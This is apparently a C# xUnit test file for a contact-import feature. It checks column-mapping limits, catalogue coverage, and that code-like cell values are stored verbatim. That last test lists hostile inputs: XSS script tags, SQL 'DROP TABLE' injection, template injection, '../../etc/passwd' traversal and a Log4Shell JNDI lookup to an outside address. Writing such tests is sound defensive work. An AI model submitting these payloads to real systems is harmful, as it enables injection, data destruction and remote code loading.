using System.Reflection;
using System.Text;
using Conecta.Core.Contacts;
using Conecta.Core.Contacts.Fields;
using Conecta.Core.Imports;
using Conecta.Core.Imports.Issues;
using Conecta.Core.Imports.Mapping;
using Conecta.Core.Shared;
using Conecta.Tests.Hosting;
using Conecta.Tests.Imports.Pipeline;
using Microsoft.EntityFrameworkCore;

namespace Conecta.Tests.Imports;

/// <summary>The catalogue of import.md 22 as a whole: every item has a test that carries its number.</summary>
public sealed class CatalogueTests
{
    [Fact]
    public void Catalogue_EveryItem_HasATest()
    {
        var covered = typeof(CatalogueTests).Assembly.GetTypes()
            .SelectMany(type => type.GetMethods(BindingFlags.Public | BindingFlags.Instance | BindingFlags.Static | BindingFlags.DeclaredOnly))
            .Where(method => method.IsDefined(typeof(FactAttribute), inherit: true))
            .SelectMany(method => method.GetCustomAttributes<TraitAttribute>())
            .Where(trait => trait.Name == "Catalogue").Select(trait => trait.Value).ToHashSet(StringComparer.Ordinal);

        Assert.Empty(Enumerable.Range(1, 72).Select(n => n.ToString()).Concat(["E", "F"]).Except(covered));
    }

    [Fact]
    [Trait("Catalogue", "25")]
    public async Task Mapping_TwoHundredColumnsAndOneMore_AcceptedAndRefused()
    {
        await using var database = await TestDatabase.CreateAsync(DatabaseProvider.Sqlite);
        var flow = new ImportFlow(database, database.AlfaId);
        await flow.DbAsync(async db =>
        {
            db.CustomFields.AddRange(Enumerable.Range(1, 200).Select(i => new CustomField { Name = $"Quesito {Word(i)}", Key = $"quesito_{Word(i)}", Kind = CustomFieldKind.Text, Position = i }));
            return await db.SaveChangesAsync();
        });
        var heading = string.Join(';', Enumerable.Range(1, 200).Select(i => $"Quesito {Word(i)}"));
        var values = string.Join(';', Enumerable.Range(1, 200).Select(i => $"valor {Word(i)}"));
        var id = await flow.ReadAsync(ImportFlow.Csv($"Celular;{heading}\n35988887777;{values}\n"), "lista.csv");
        async Task<IReadOnlyList<ImportFinding>> MapAsync(int left)
        {
            var columns = await flow.DbAsync(db => db.ImportColumnMaps.AsNoTracking().OrderBy(c => c.Position).ToListAsync());
            Assert.All(columns, c => Assert.NotNull(c.Field));
            var mapped = columns.Select((c, i) => new MappedColumn(c.Position, i > columns.Count - 1 - left ? null : c.Field));
            return await flow.WithAsync<ImportMapping, IReadOnlyList<ImportFinding>>(m => m.StartPlanAsync(id, new MappingInput(ImportMode.Upsert, [.. mapped], new ImportRules(), ConsentAnswer.None), startJob: false, default));
        }

        Assert.Equal("201 colunas escolhidas; o limite é 200.", Assert.Single(await MapAsync(0)).Message);
        Assert.Empty(await MapAsync(1));
    }

    [Fact]
    [Trait("Catalogue", "64")]
    public async Task Values_ThatLookLikeCode_AreStoredAsTheyAre()
    {
        await using var database = await TestDatabase.CreateAsync(DatabaseProvider.Sqlite);
        var flow = new ImportFlow(database, database.AlfaId);
        string[] texts = ["<script>alert(1)</script>", "<b>Ana</b> & cia", "**Ana** [x](javascript:1)", "{{7*7}}", "{{1}}", "'; DROP TABLE Contact; --", "%00%2e%2e", "../../etc/passwd", "${jndi:ldap://192.0.2.1/a}"];
        var rows = string.Concat(texts.Select((t, i) => $"\"Pessoa {i}\";359888800{i:00};\"{t}\"\n"));

        await flow.ImportAsync("Nome;Celular;Observações\n" + rows);

        Assert.Equal(texts, await flow.DbAsync(db => db.Contacts.OrderBy(c => c.PhoneCanonical).Select(c => c.Notes).ToListAsync()));
    }

    /// <summary>A number in letters, since a figure at the end of a heading is an index.</summary>
    private static string Word(int number)
    {
        var word = new StringBuilder();
        for (; number > 0; number /= 20)
            word.Append("bcdfghjklmnpqrstvxwz"[number % 20]).Append('a');
        return word.ToString();
    }
}
